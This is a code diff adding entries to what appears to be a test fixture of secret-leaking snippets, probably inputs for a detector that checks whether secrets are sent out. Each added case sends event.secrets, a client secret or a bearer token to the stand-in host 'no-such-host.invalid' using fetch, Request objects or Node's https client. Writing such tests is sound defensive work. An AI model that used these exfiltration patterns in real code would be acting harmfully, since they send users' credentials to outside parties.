@@ -48,6 +48,26 @@ export const ofSecrets = {
         code: `${ask} ${set('1')} await fetch('https://no-such-host.invalid/', { headers: { authorization: 'Bearer ' + access_token } }).catch(() => {});`,
       },
       {
+        name: "sent to somebody else with Node's own client",
+        code: `${set('1')} await new Promise((done) => { const sent = require('node:https').request('https://no-such-host.invalid/', { method: 'POST' }, done); sent.on('error', done); sent.write('{'); sent.end(JSON.stringify(event.secrets)); });`,
+      },
+      {
+        name: "a token in a header, sent to somebody else with Node's own client",
+        code: `${ask} ${set('1')} await new Promise((done) => { const sent = require('node:https').get('https://no-such-host.invalid/', { headers: { authorization: 'Bearer ' + access_token } }, done); sent.on('error', done); });`,
+      },
+      {
+        name: 'sent to somebody else in a request that was made before',
+        code: `${set('1')} await fetch(new Request('https://no-such-host.invalid/', { method: 'POST', body: JSON.stringify(event.secrets) })).catch(() => {});`,
+      },
+      {
+        name: 'in the header of a request that was made before',
+        code: `${set('1')} await fetch(new Request('https://no-such-host.invalid/', { headers: { 'x-key': event.secrets.clientSecret } })).catch(() => {});`,
+      },
+      {
+        name: 'sent to somebody else as bytes',
+        code: `${set('1')} await fetch('https://no-such-host.invalid/', { method: 'POST', body: Buffer.from(event.secrets.clientSecret) }).catch(() => {});`,
+      },
+      {
         name: 'in hex',
         code: set("Buffer.from(event.secrets.clientSecret).toString('hex')"),
       },
